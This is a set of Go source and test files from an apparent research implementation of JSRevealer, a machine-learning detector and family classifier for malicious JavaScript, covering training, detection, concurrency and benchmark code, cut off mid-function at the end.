	_, err := det.DetectWithLimits(context.Background(), src, parser.Limits{MaxTokens: 100_000})
	if !errors.Is(err, lexer.ErrTooManyTokens) {
		t.Fatalf("want ErrTooManyTokens, got %v", err)
	}

	// Unguarded: must complete (verdict, no error) in bounded time.
	done := make(chan error, 1)
	go func() {
		_, err := det.Detect(src)
		done <- err
	}()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Detect(10MB): %v", err)
		}
	case <-time.After(120 * time.Second):
		t.Fatal("Detect hung on the 10MB file")
	}
}

// TestDetectCtxDeadline: an already expired context aborts detection
// immediately with a context error.
func TestDetectCtxDeadline(t *testing.T) {
	det, _ := robustDetector(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := det.DetectCtx(ctx, "var a = 1;"); !errors.Is(err, context.Canceled) {
		t.Fatalf("want context.Canceled, got %v", err)
	}
}

// TestDetectConcurrent hammers one detector from many goroutines; with
// `go test -race` this verifies the timing accumulators are properly
// synchronized.
func TestDetectConcurrent(t *testing.T) {
	det, test := robustDetector(t)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 4; i++ {
				s := test[(w+i)%len(test)]
				if _, err := det.DetectCtx(context.Background(), s.Source); err != nil {
					t.Errorf("concurrent Detect: %v", err)
				}
			}
		}(w)
	}
	wg.Wait()
}
