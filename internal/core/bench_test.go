package core

import (
	"fmt"
	"testing"

	"jsrevealer/internal/corpus"
)

// benchTrainSamples builds the fixed benchmark corpus once per process.
func benchTrainSamples(b *testing.B) []Sample {
	b.Helper()
	samples := corpus.Generate(corpus.Config{Benign: 40, Malicious: 40, Seed: 9})
	train := make([]Sample, len(samples))
	for i, s := range samples {
		train[i] = Sample{Source: s.Source, Malicious: s.Malicious}
	}
	return train
}

// BenchmarkTrain measures the end-to-end fit (Prepare + Build) at different
// worker counts. The workers=4/workers=1 ratio is the training pipeline's
// parallel speedup; the fitted detector is bit-identical across the
// sub-benchmarks (asserted by TestFingerprintIndependentOfWorkers).
func BenchmarkTrain(b *testing.B) {
	train := benchTrainSamples(b)
	for _, workers := range []int{1, 4} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			opts := smallOptions(9)
			opts.Embedding.BatchSize = 8
			opts.TrainWorkers = workers
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				det, err := Train(train, nil, opts)
				if err != nil {
					b.Fatal(err)
				}
				_ = det
			}
		})
	}
}
