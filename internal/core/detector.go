// Package core implements the JSRevealer pipeline: path extraction over the
// enhanced AST, attention-based path embedding, outlier-filtered clustering
// into semantic features, and random-forest classification (Section III of
// the paper).
package core

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"
	"time"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/ml/classify"
	"jsrevealer/internal/ml/cluster"
	"jsrevealer/internal/ml/linalg"
	"jsrevealer/internal/ml/nn"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/par"
	"jsrevealer/internal/pathctx"
)

// Options configures the pipeline. The zero value is not usable; start from
// DefaultOptions.
type Options struct {
	// Path controls path-context extraction (enhanced vs regular AST,
	// length/width bounds).
	Path pathctx.Options
	// Embedding configures the attention embedding network.
	Embedding nn.Config
	// KBenign and KMalicious are the clustering K values; the paper's tuned
	// values are 11 and 10 on the enhanced AST (5 and 6 on the regular AST).
	KBenign, KMalicious int
	// OutlierFraction is the share of path vectors removed as outliers
	// before clustering.
	OutlierFraction float64
	// AutoSelectOutlier, when true, picks the outlier detector with the
	// MetaOD-style selector; otherwise FastABOD is used directly.
	AutoSelectOutlier bool
	// OverlapThreshold removes benign/malicious cluster pairs whose
	// centroid cosine similarity exceeds it (1.0 disables removal; the
	// paper observes no removals at its tuned K values).
	OverlapThreshold float64
	// MaxPoolPerClass caps the per-class path-vector pool fed to outlier
	// detection and clustering.
	MaxPoolPerClass int
	// Trainer builds the final classifier; nil means the paper's random
	// forest.
	Trainer classify.Trainer
	// UniformWeights replaces the attention weights with uniform 1/n per
	// path during featurization — the ablation of the paper's claim that
	// attention importance is what the cluster features should accumulate.
	UniformWeights bool
	// Seed drives all pipeline randomness.
	Seed int64
	// TrainWorkers bounds the goroutines used by the parallel training
	// stages (path extraction, script embedding, outlier scoring, K-Means
	// assignment, and — via Embedding.TrainWorkers when that is unset —
	// minibatch gradient computation). <= 0 means all CPUs. It is a
	// wall-clock knob only: for a fixed Seed the fitted detector is
	// bit-identical at any worker count (see Detector.Fingerprint).
	TrainWorkers int
}

// DefaultOptions returns the paper's configuration (enhanced AST, K=11/10,
// FastABOD via auto-selection, random forest).
func DefaultOptions() Options {
	return Options{
		Path:              pathctx.DefaultOptions(),
		Embedding:         nn.DefaultConfig(),
		KBenign:           11,
		KMalicious:        10,
		OutlierFraction:   0.05,
		AutoSelectOutlier: true,
		OverlapThreshold:  0.98,
		MaxPoolPerClass:   2500,
		Seed:              1,
	}
}

// RegularASTOptions returns the Table IV ablation configuration: no data
// flow, with the K values the paper tunes for the regular AST.
func RegularASTOptions() Options {
	o := DefaultOptions()
	o.Path.UseDataFlow = false
	o.KBenign = 5
	o.KMalicious = 6
	return o
}

// Sample is one labelled training script.
type Sample struct {
	Source    string
	Malicious bool
}

// Feature is one learned cluster feature with its provenance, the unit of
// the paper's interpretability analysis (Table VII).
type Feature struct {
	// Centroid is the cluster centre in embedding space.
	Centroid []float64
	// FromMalicious records which class's clustering produced the feature.
	FromMalicious bool
	// CentralPath is the stored path context nearest to the centroid.
	CentralPath string
}

// StageTimings is the per-stage wall-clock accounting behind the paper's
// Table VIII. It is no longer accumulated in place: Detector.Timings()
// derives it on demand from the detector's registry-backed stage counters
// (see internal/core/obs.go), so reading it never contends with in-flight
// detections.
type StageTimings struct {
	EnhancedAST   time.Duration
	PathTraversal time.Duration
	PreTraining   time.Duration
	Embedding     time.Duration
	OutlierDet    time.Duration
	Clustering    time.Duration
	Training      time.Duration
	Classifying   time.Duration
	// FilesProcessed normalizes extraction/embedding/classifying times.
	FilesProcessed int
}

// Detector is a trained JSRevealer instance.
type Detector struct {
	opts       Options
	model      *nn.Model
	features   []Feature
	classifier classify.Classifier
	// OutlierDetectorName records which detector the meta-selection chose.
	OutlierDetectorName string
	// acct is the registry-backed cumulative stage accounting; Timings()
	// is its compatibility view. Accumulation is lock-free, so Detect is
	// safe to call from many goroutines at once.
	acct     *stageAccount
	acctOnce sync.Once
	// centroidView is the lazily built slice-of-centroids view over features
	// that featurize shares across calls; features are immutable once the
	// detector is constructed (Build or deserialization), so building the
	// view once is safe under concurrent Detect calls.
	centroidView  [][]float64
	centroidsOnce sync.Once
	// parseFailures counts training scripts that failed to parse.
	parseFailures int
}

// account returns the detector's stage accounting, creating it lazily for
// detectors not built through Prepare/Build (e.g. deserialized ones).
func (d *Detector) account() *stageAccount {
	d.acctOnce.Do(func() {
		if d.acct == nil {
			d.acct = newStageAccount()
		}
	})
	return d.acct
}

// Timings returns the cumulative per-stage wall-clock view, Table VIII's
// data. It reads atomic counters, so it is safe (and consistent enough for
// reporting) while detections are in flight.
func (d *Detector) Timings() StageTimings { return d.account().view() }

// ErrNotTrained is returned by Detect on an untrained detector.
var ErrNotTrained = errors.New("core: detector not trained")

// extracted is a parsed script reduced to embeddings.
type extracted struct {
	paths     []pathctx.Path
	keys      []nn.PathKey
	malicious bool
}

// embedded is one training script reduced to its path embeddings.
type embedded struct {
	embs      []nn.Embedding
	malicious bool
}

// pooled is a per-class pool of path vectors with their path strings.
type pooled struct {
	vecs  [][]float64
	descs []string
}

// Prepared holds the K-independent training state: the pre-trained
// embedding model, the embedded training scripts, and the outlier-filtered
// per-class path-vector pools. A Prepared can Build detectors for many
// (K, classifier) combinations without repeating extraction, pre-training,
// or outlier detection — which is how the paper's Table II (classifier
// comparison), Table III (K sweep), and Figure 5 (elbow curves) reuse one
// training pass.
type Prepared struct {
	opts  Options
	model *nn.Model
	embs  []embedded
	pools [2]pooled
	// OutlierDetectorName records the MetaOD-style selection outcome.
	OutlierDetectorName string
	// acct holds the preparation stages' registry-backed accounting; every
	// Build seeds its detector with an independent copy.
	acct *stageAccount
	// parseFailures counts unparseable training scripts.
	parseFailures int
	// corpusDigest and optsDigest fingerprint the inputs this Prepared was
	// fitted on; checkpoint resume refuses state from a different corpus or
	// configuration (see checkpoint.go).
	corpusDigest, optsDigest string
}

// Timings returns the cumulative preparation-stage wall-clock view.
func (p *Prepared) Timings() StageTimings { return p.acct.view() }

// PoolVectors returns the outlier-filtered path-vector pool of one class,
// the input to the Figure 5 elbow curves.
func (p *Prepared) PoolVectors(malicious bool) [][]float64 {
	c := 0
	if malicious {
		c = 1
	}
	return p.pools[c].vecs
}

// ParseFailures reports how many training scripts failed to parse.
func (p *Prepared) ParseFailures() int { return p.parseFailures }

// Train builds a detector with the options' K values and classifier.
// pretrain supplies the labelled scripts for embedding pre-training (the
// paper uses 5,000 additional samples); when nil, the training set itself
// is reused.
func Train(train []Sample, pretrain []Sample, opts Options) (*Detector, error) {
	p, err := Prepare(train, pretrain, opts)
	if err != nil {
		return nil, err
	}
	return p.Build(opts.KBenign, opts.KMalicious, opts.Trainer)
}

// Build finishes training: Bisecting K-Means clustering with the given K
// values, overlap removal, featurization of the training scripts, and
// classifier fitting. A nil trainer selects the paper's random forest.
// Clustering and featurization parallelize over the Prepared options'
// TrainWorkers; the built detector is bit-identical at any worker count.
func (p *Prepared) Build(kBenign, kMalicious int, trainer classify.Trainer) (*Detector, error) {
	d := &Detector{
		opts:                p.opts,
		model:               p.model,
		OutlierDetectorName: p.OutlierDetectorName,
		acct:                p.acct.clone(),
		parseFailures:       p.parseFailures,
	}
	d.opts.KBenign, d.opts.KMalicious = kBenign, kMalicious

	ctx := context.Background()
	_, sp := obs.StartSpan(ctx, "cluster")
	ks := [2]int{kBenign, kMalicious}
	var feats []Feature
	for c := 0; c < 2; c++ {
		if len(p.pools[c].vecs) < ks[c] {
			return nil, fmt.Errorf("core: class %d has %d path vectors, need >= %d",
				c, len(p.pools[c].vecs), ks[c])
		}
		res, err := cluster.BisectingKMeansWorkers(p.pools[c].vecs, ks[c], p.opts.Seed+int64(c), p.opts.TrainWorkers)
		if err != nil {
			return nil, fmt.Errorf("core: clustering: %w", err)
		}
		for ci, centroid := range res.Centroids {
			feats = append(feats, Feature{
				Centroid:      centroid,
				FromMalicious: c == 1,
				CentralPath:   nearestDesc(centroid, p.pools[c].vecs, p.pools[c].descs, res.Assignments, ci),
			})
		}
	}
	d.record(ctx, stgCluster, sp.End())

	// Remove overlapping benign/malicious cluster pairs.
	d.features = removeOverlaps(feats, p.opts.OverlapThreshold)

	// Stage 4: featurize training scripts and fit the classifier. Each
	// script's feature vector is an independent function of the frozen
	// features, so the fan-out is bit-identical at any worker count.
	featVecs := make([][]float64, len(p.embs))
	labels := make([]bool, len(p.embs))
	par.For(p.opts.TrainWorkers, len(p.embs), func(i int) {
		featVecs[i] = d.featurize(p.embs[i].embs)
		labels[i] = p.embs[i].malicious
	})
	if trainer == nil {
		trainer = &classify.RandomForestTrainer{Seed: p.opts.Seed}
	}
	_, sp = obs.StartSpan(ctx, "fit")
	clf, err := trainer.Train(featVecs, labels)
	if err != nil {
		return nil, fmt.Errorf("core: classifier: %w", err)
	}
	d.record(ctx, stgFit, sp.End())
	d.classifier = clf
	return d, nil
}

// Name identifies the detector in comparative experiments.
func (d *Detector) Name() string { return "JSRevealer" }

// extract parses a script under the given limits and extracts its path
// contexts, attributing lex/parse and dataflow/traversal time separately
// to the stage instruments and nesting "parse"/"pathctx" spans under
// whatever span ctx already carries.
func (d *Detector) extract(ctx context.Context, src string, lim parser.Limits) (extracted, error) {
	_, sp := obs.StartSpan(ctx, "parse")
	prog, ptm, err := parser.ParseTimed(src, lim)
	sp.End()
	d.record(ctx, stgLex, ptm.Lex)
	d.record(ctx, stgParse, ptm.Parse)
	if err != nil {
		return extracted{}, err
	}

	_, sp = obs.StartSpan(ctx, "pathctx")
	paths, xtm := pathctx.ExtractTimed(prog, d.opts.Path)
	sp.End()
	d.record(ctx, stgDataFlow, xtm.DataFlow)
	d.record(ctx, stgTraverse, xtm.Traversal)
	d.account().addFile()
	return extracted{paths: paths}, nil
}

// featurize converts a script's path embeddings into the cluster-feature
// vector: the attention weight of each path accrues to the feature whose
// centroid is nearest, then the vector is min-max normalized (Equation 6).
func (d *Detector) featurize(embs []nn.Embedding) []float64 {
	v := make([]float64, len(d.features))
	if len(d.features) == 0 {
		return v
	}
	centroids := d.centroids()
	uniform := 0.0
	if d.opts.UniformWeights && len(embs) > 0 {
		uniform = 1 / float64(len(embs))
	}
	for _, e := range embs {
		idx := cluster.Assign(centroids, e.Vector)
		if idx < 0 {
			continue
		}
		if d.opts.UniformWeights {
			v[idx] += uniform
		} else {
			v[idx] += e.Weight
		}
	}
	return linalg.MinMaxNormalize(v)
}

// centroids returns the shared centroid view used by featurize, built once
// on first use.
func (d *Detector) centroids() [][]float64 {
	d.centroidsOnce.Do(func() {
		d.centroidView = make([][]float64, len(d.features))
		for i, f := range d.features {
			d.centroidView[i] = f.Centroid
		}
	})
	return d.centroidView
}

// Detect classifies a script; true means malicious.
func (d *Detector) Detect(src string) (bool, error) {
	return d.DetectWithLimits(context.Background(), src, parser.Limits{})
}

// DetectCtx classifies a script honouring the context's deadline and
// cancellation (checked cooperatively between and inside pipeline stages).
// It is safe to call from many goroutines concurrently.
func (d *Detector) DetectCtx(ctx context.Context, src string) (bool, error) {
	return d.DetectWithLimits(ctx, src, parser.Limits{})
}

// DetectWithLimits classifies a script under explicit parser resource
// limits. When lim.Cancel is nil the context's Done channel is used, so a
// deadline on ctx aborts even a parse of pathological input promptly.
func (d *Detector) DetectWithLimits(ctx context.Context, src string, lim parser.Limits) (bool, error) {
	if d.classifier == nil {
		return false, ErrNotTrained
	}
	if ctx == nil {
		ctx = context.Background()
	}
	if lim.Cancel == nil {
		lim.Cancel = ctx.Done()
	}
	if err := ctx.Err(); err != nil {
		return false, err
	}
	ctx, sp := obs.StartSpan(ctx, "detect")
	defer sp.End()
	ex, err := d.extract(ctx, src, lim)
	if err != nil {
		// Unparseable input is suspicious but the paper's pipeline simply
		// cannot featurize it; surface the error to the caller.
		return false, fmt.Errorf("core: %w", err)
	}
	if err := ctx.Err(); err != nil {
		return false, err
	}
	keys := make([]nn.PathKey, len(ex.paths))
	for i, p := range ex.paths {
		keys[i] = d.model.KeyOf(p.ComponentHashes())
	}
	_, esp := obs.StartSpan(ctx, "embed")
	embs := d.model.Embed(keys)
	d.record(ctx, stgEmbed, esp.End())

	_, csp := obs.StartSpan(ctx, "classify")
	feat := d.featurize(embs)
	verdict := d.classifier.Predict(feat)
	d.record(ctx, stgClassify, csp.End())
	return verdict, nil
}

// PreparedScript is the front half of one script's detection — parsed,
// path-extracted, reduced to vocabulary keys — awaiting the batched
// embed/classify back half. Produced by PrepareBatch, consumed by
// ClassifyBatch; opaque to callers in between.
type PreparedScript struct {
	keys []nn.PathKey
}

// PrepareBatch runs the per-script front half of the pipeline (parse, path
// extraction, vocabulary lookup) under the same limits and cancellation
// semantics as DetectWithLimits and returns the prepared state for a later
// ClassifyBatch. Splitting detection this way lets a scanner parse scripts
// concurrently, then amortize the NN hot path across the whole batch; the
// PrepareBatch + ClassifyBatch sequence is verdict-identical to calling
// DetectWithLimits per script (nn.EmbedBatch is pinned bit-identical to
// nn.Embed by golden test, and featurization/classification are unchanged).
func (d *Detector) PrepareBatch(ctx context.Context, src string, lim parser.Limits) (any, error) {
	if d.classifier == nil {
		return nil, ErrNotTrained
	}
	if ctx == nil {
		ctx = context.Background()
	}
	if lim.Cancel == nil {
		lim.Cancel = ctx.Done()
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	ctx, sp := obs.StartSpan(ctx, "detect")
	defer sp.End()
	ex, err := d.extract(ctx, src, lim)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	keys := make([]nn.PathKey, len(ex.paths))
	for i, p := range ex.paths {
		keys[i] = d.model.KeyOf(p.ComponentHashes())
	}
	return &PreparedScript{keys: keys}, nil
}

// ClassifyBatch finishes a batch of prepared scripts: one batched embedding
// pass over every script's path keys, then per-script featurization and
// classification. The result slice is parallel to prepared. Embed and
// classify stage time accrues to ctx's span tree once per batch rather than
// once per script.
func (d *Detector) ClassifyBatch(ctx context.Context, prepared []any) ([]bool, error) {
	if d.classifier == nil {
		return nil, ErrNotTrained
	}
	if ctx == nil {
		ctx = context.Background()
	}
	keySets := make([][]nn.PathKey, len(prepared))
	for i, p := range prepared {
		ps, ok := p.(*PreparedScript)
		if !ok {
			return nil, fmt.Errorf("core: ClassifyBatch element %d is %T, not *PreparedScript", i, p)
		}
		keySets[i] = ps.keys
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	_, esp := obs.StartSpan(ctx, "embed")
	batch := d.model.EmbedBatch(keySets)
	d.record(ctx, stgEmbed, esp.End())

	_, csp := obs.StartSpan(ctx, "classify")
	out := make([]bool, len(prepared))
	for i, embs := range batch {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		out[i] = d.classifier.Predict(d.featurize(embs))
	}
	d.record(ctx, stgClassify, csp.End())
	return out, nil
}

// DetectProgram classifies an already-parsed program (used by benchmarks to
// separate parsing cost from pipeline cost).
func (d *Detector) DetectProgram(prog *ast.Program) (bool, error) {
	if d.classifier == nil {
		return false, ErrNotTrained
	}
	paths := pathctx.Extract(prog, d.opts.Path)
	keys := make([]nn.PathKey, len(paths))
	for i, p := range paths {
		keys[i] = d.model.KeyOf(p.ComponentHashes())
	}
	embs := d.model.Embed(keys)
	return d.classifier.Predict(d.featurize(embs)), nil
}

// Features returns the learned cluster features.
func (d *Detector) Features() []Feature {
	out := make([]Feature, len(d.features))
	copy(out, d.features)
	return out
}

// Options returns the detector's configuration.
func (d *Detector) Options() Options { return d.opts }

// ParseFailures reports how many training scripts failed to parse.
func (d *Detector) ParseFailures() int { return d.parseFailures }

// ImportantFeature pairs a feature with its random-forest importance.
type ImportantFeature struct {
	Feature
	Importance float64
	// Index is the feature's position in the feature vector.
	Index int
}

// Explain returns the top-n features by random-forest Gini importance — the
// paper's Table VII interpretability output. It returns an error when the
// classifier is not a random forest.
func (d *Detector) Explain(n int) ([]ImportantFeature, error) {
	rf, ok := d.classifier.(*classify.RandomForest)
	if !ok {
		return nil, errors.New("core: interpretability requires the random-forest classifier")
	}
	imps := rf.FeatureImportances()
	out := make([]ImportantFeature, 0, len(imps))
	for i, imp := range imps {
		if i >= len(d.features) {
			break
		}
		out = append(out, ImportantFeature{Feature: d.features[i], Importance: imp, Index: i})
	}
	sort.Slice(out, func(a, b int) bool { return out[a].Importance > out[b].Importance })
	if n < len(out) {
		out = out[:n]
	}
	return out, nil
}

// ---------------------------------------------------------------------------
// helpers
// ---------------------------------------------------------------------------

// strideSample returns n evenly spaced indices over [0, total).
func strideSample(total, n int) []int {
	out := make([]int, 0, n)
	stride := float64(total) / float64(n)
	pos := 0.0
	for len(out) < n {
		idx := int(pos)
		if idx >= total {
			break
		}
		out = append(out, idx)
		pos += stride
	}
	return out
}

// nearestDesc finds the path string of the member vector closest to the
// centroid within cluster ci.
func nearestDesc(centroid []float64, vecs [][]float64, descs []string, assignments []int, ci int) string {
	best, bestD := -1, 0.0
	for i, v := range vecs {
		if assignments[i] != ci {
			continue
		}
		dd := linalg.SquaredDistance(centroid, v)
		if best == -1 || dd < bestD {
			best, bestD = i, dd
		}
	}
	if best == -1 {
		return ""
	}
	return descs[best]
}

// removeOverlaps drops benign/malicious feature pairs whose centroids are
// nearly identical (cosine similarity above the threshold).
func removeOverlaps(feats []Feature, threshold float64) []Feature {
	if threshold >= 1.0 {
		return feats
	}
	drop := make([]bool, len(feats))
	for i := 0; i < len(feats); i++ {
		for j := i + 1; j < len(feats); j++ {
			if feats[i].FromMalicious == feats[j].FromMalicious {
				continue
			}
			if linalg.CosineSimilarity(feats[i].Centroid, feats[j].Centroid) > threshold {
				drop[i], drop[j] = true, true
			}
		}
	}
	out := feats[:0]
	for i, f := range feats {
		if !drop[i] {
			out = append(out, f)
		}
	}
	return out
}
