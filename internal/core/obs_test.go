package core

import (
	"context"
	"sync"
	"testing"

	"jsrevealer/internal/obs"
)

// TestDetectStageMetrics verifies one DetectCtx call lands one observation
// in every per-call stage histogram of the context's registry.
func TestDetectStageMetrics(t *testing.T) {
	det, test := trainSmall(t, 30, 3)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	if _, err := det.DetectCtx(ctx, test[0].Source); err != nil {
		t.Fatal(err)
	}
	for _, stage := range []string{"lex", "parse", "dataflow", "traverse", "embed", "classify"} {
		h := reg.Histogram(StageDurationMetric, "", nil, obs.Labels{"stage": stage})
		if h.Count() != 1 {
			t.Errorf("stage %q observations = %d, want 1", stage, h.Count())
		}
	}
	for _, span := range []string{"detect", "parse", "pathctx", "embed", "classify"} {
		h := reg.Histogram(obs.SpanDurationMetric, "", nil, obs.Labels{"span": span})
		if h.Count() != 1 {
			t.Errorf("span %q observations = %d, want 1", span, h.Count())
		}
	}
}

// TestConcurrentDetectSpans runs many Detect calls in parallel against one
// shared registry — under -race this is the span-nesting concurrency test
// the observability layer is specified against. Every goroutine checks its
// spans nest under its own detect root, and the shared histograms must
// reconcile exactly.
func TestConcurrentDetectSpans(t *testing.T) {
	det, test := trainSmall(t, 30, 4)
	reg := obs.NewRegistry()
	base := obs.WithRegistry(context.Background(), reg)

	const goroutines, per = 8, 5
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				ctx, root := obs.StartSpan(base, "scan.file")
				if _, err := det.DetectCtx(ctx, test[(g+i)%len(test)].Source); err != nil {
					t.Errorf("DetectCtx: %v", err)
				}
				if inner := obs.SpanFromContext(ctx); inner != root {
					t.Error("detect leaked a child span into the caller's context")
				}
				root.End()
			}
		}(g)
	}
	wg.Wait()

	total := uint64(goroutines * per)
	for _, span := range []string{"scan.file", "detect", "parse", "pathctx", "embed", "classify"} {
		h := reg.Histogram(obs.SpanDurationMetric, "", nil, obs.Labels{"span": span})
		if h.Count() != total {
			t.Errorf("span %q count = %d, want %d", span, h.Count(), total)
		}
	}
	if got := det.Timings().FilesProcessed; got < int(total) {
		t.Errorf("FilesProcessed = %d, want >= %d", got, total)
	}
}

// TestTimingsViewFromRegistry checks the StageTimings compatibility view
// is derived from (and consistent with) the registry-backed accounting.
func TestTimingsViewFromRegistry(t *testing.T) {
	det, test := trainSmall(t, 30, 5)
	tm := det.Timings()
	if tm.EnhancedAST == 0 || tm.PathTraversal == 0 {
		t.Error("extraction stages empty after training")
	}
	// The view must equal the sum of the fine-grained counters.
	acct := det.account()
	if want := acct.nanos[stgLex].Value() + acct.nanos[stgParse].Value(); int64(tm.EnhancedAST) != want {
		t.Errorf("EnhancedAST = %d, want lex+parse = %d", tm.EnhancedAST, want)
	}
	if _, err := det.Detect(test[0].Source); err != nil {
		t.Fatal(err)
	}
	if det.Timings().FilesProcessed != tm.FilesProcessed+1 {
		t.Error("FilesProcessed did not advance by one detection")
	}
}

// TestRegisterStageMetrics checks pre-registration exposes every stage
// series before any traffic.
func TestRegisterStageMetrics(t *testing.T) {
	reg := obs.NewRegistry()
	RegisterStageMetrics(reg)
	snap := reg.Snapshot()
	if len(snap.Histograms) != int(numStages) {
		t.Errorf("pre-registered %d stage series, want %d", len(snap.Histograms), numStages)
	}
	for _, h := range snap.Histograms {
		if h.Count != 0 {
			t.Errorf("stage %v pre-registered with observations", h.Labels)
		}
	}
}
