package core

import (
	"testing"

	"jsrevealer/internal/corpus"
)

func TestFamilyClassifier(t *testing.T) {
	samples := corpus.Generate(corpus.Config{Benign: 40, Malicious: 40, Seed: 21, Pristine: true})
	var train []Sample
	var famTrain []FamilySample
	var famTest []corpus.Sample
	for i, s := range samples {
		train = append(train, Sample{Source: s.Source, Malicious: s.Malicious})
		if !s.Malicious {
			continue
		}
		if i%4 == 3 {
			famTest = append(famTest, s)
		} else {
			famTrain = append(famTrain, FamilySample{Source: s.Source, Family: s.Family})
		}
	}
	det, err := Train(train, nil, smallOptions(21))
	if err != nil {
		t.Fatal(err)
	}
	fc, err := TrainFamilyClassifier(det, famTrain, 21)
	if err != nil {
		t.Fatal(err)
	}
	if len(fc.Families()) != 6 {
		t.Fatalf("families = %v", fc.Families())
	}
	correct := 0
	for _, s := range famTest {
		fam, probs, err := fc.Classify(s.Source)
		if err != nil {
			t.Fatal(err)
		}
		if len(probs) != 6 {
			t.Fatalf("probs = %d", len(probs))
		}
		if fam == s.Family {
			correct++
		}
	}
	// Six families, chance = 1/6; even a weak stack should clear 50%.
	if acc := float64(correct) / float64(len(famTest)); acc < 0.5 {
		t.Errorf("family accuracy = %.2f", acc)
	}
}

func TestFamilyClassifierValidation(t *testing.T) {
	if _, err := TrainFamilyClassifier(nil, nil, 1); err == nil {
		t.Error("nil detector accepted")
	}
	det, _ := trainSmall(t, 20, 22)
	if _, err := TrainFamilyClassifier(det, nil, 1); err == nil {
		t.Error("empty samples accepted")
	}
	oneFamily := []FamilySample{
		{Source: "var a = 1;", Family: "only"},
		{Source: "var b = 2;", Family: "only"},
	}
	if _, err := TrainFamilyClassifier(det, oneFamily, 1); err == nil {
		t.Error("single family accepted")
	}
}

func TestUniformWeightsAblation(t *testing.T) {
	train, test := smallSplit(t, 40, 23)
	opts := smallOptions(23)
	opts.UniformWeights = true
	det, err := Train(train, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	correct := 0
	for _, s := range test {
		pred, err := det.Detect(s.Source)
		if err != nil {
			t.Fatal(err)
		}
		if pred == s.Malicious {
			correct++
		}
	}
	// The ablation must still function as a detector (quality comparisons
	// happen in the experiments harness).
	if acc := float64(correct) / float64(len(test)); acc < 0.6 {
		t.Errorf("uniform-weight ablation accuracy = %.2f", acc)
	}
}
