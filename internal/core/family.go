package core

import (
	"context"
	"errors"
	"fmt"
	"sort"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/ml/classify"
	"jsrevealer/internal/ml/nn"
)

// FamilySample is a labelled script for family classification: the sample's
// malware family (or benign program family) name.
type FamilySample struct {
	Source string
	Family string
}

// FamilyClassifier assigns scripts to malware families — the extension the
// paper names as future work ("our future work will add a JavaScript
// malware family component"). It reuses a trained Detector's embedding
// model and cluster features and stacks a one-vs-rest random forest per
// family on top.
type FamilyClassifier struct {
	det      *Detector
	families []string
	// perFamily[i] scores membership in families[i].
	perFamily []*classify.RandomForest
}

// TrainFamilyClassifier fits a family classifier over a trained detector's
// feature space.
func TrainFamilyClassifier(det *Detector, samples []FamilySample, seed int64) (*FamilyClassifier, error) {
	if det == nil || det.classifier == nil {
		return nil, ErrNotTrained
	}
	if len(samples) == 0 {
		return nil, errors.New("core: no family samples")
	}

	// Featurize every sample once.
	var feats [][]float64
	var fams []string
	for _, s := range samples {
		f, err := det.featurizeSource(s.Source)
		if err != nil {
			continue
		}
		feats = append(feats, f)
		fams = append(fams, s.Family)
	}
	if len(feats) == 0 {
		return nil, errors.New("core: no family sample parsed")
	}

	familySet := make(map[string]bool)
	for _, f := range fams {
		familySet[f] = true
	}
	families := make([]string, 0, len(familySet))
	for f := range familySet {
		families = append(families, f)
	}
	sort.Strings(families)
	if len(families) < 2 {
		return nil, errors.New("core: family classification needs at least two families")
	}

	fc := &FamilyClassifier{det: det, families: families}
	for i, fam := range families {
		labels := make([]bool, len(fams))
		for j, f := range fams {
			labels[j] = f == fam
		}
		trainer := &classify.RandomForestTrainer{Seed: seed + int64(i)*131, Trees: 30}
		clf, err := trainer.Train(feats, labels)
		if err != nil {
			return nil, fmt.Errorf("core: family %q: %w", fam, err)
		}
		fc.perFamily = append(fc.perFamily, clf.(*classify.RandomForest))
	}
	return fc, nil
}

// Families returns the family labels in classifier order.
func (fc *FamilyClassifier) Families() []string {
	out := make([]string, len(fc.families))
	copy(out, fc.families)
	return out
}

// Classify returns the most probable family for a script along with the
// per-family probabilities (parallel to Families()).
func (fc *FamilyClassifier) Classify(src string) (string, []float64, error) {
	feat, err := fc.det.featurizeSource(src)
	if err != nil {
		return "", nil, err
	}
	probs := make([]float64, len(fc.perFamily))
	best := 0
	for i, clf := range fc.perFamily {
		probs[i] = clf.PredictProb(feat)
		if probs[i] > probs[best] {
			best = i
		}
	}
	return fc.families[best], probs, nil
}

// featurizeSource runs the extraction + embedding + cluster-feature stages
// on one script and returns the feature vector.
func (d *Detector) featurizeSource(src string) ([]float64, error) {
	ex, err := d.extract(context.Background(), src, parser.Limits{})
	if err != nil {
		return nil, err
	}
	keys := make([]nn.PathKey, len(ex.paths))
	for i, p := range ex.paths {
		keys[i] = d.model.KeyOf(p.ComponentHashes())
	}
	return d.featurize(d.model.Embed(keys)), nil
}
