package core

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"

	"jsrevealer/internal/ml/classify"
	"jsrevealer/internal/ml/nn"
)

// detectorJSON is the serialized form of a trained detector. Only the
// random-forest classifier is persistable; detectors built with other
// trainers return an error from Save.
type detectorJSON struct {
	Options             Options                `json:"options"`
	Model               *nn.Model              `json:"model"`
	Features            []Feature              `json:"features"`
	Forest              *classify.RandomForest `json:"forest"`
	OutlierDetectorName string                 `json:"outlierDetector"`
}

// ErrNotPersistable is returned when saving a detector whose classifier is
// not a random forest.
var ErrNotPersistable = errors.New("core: only random-forest detectors can be persisted")

// MarshalJSON serializes the detector.
func (d *Detector) MarshalJSON() ([]byte, error) {
	rf, ok := d.classifier.(*classify.RandomForest)
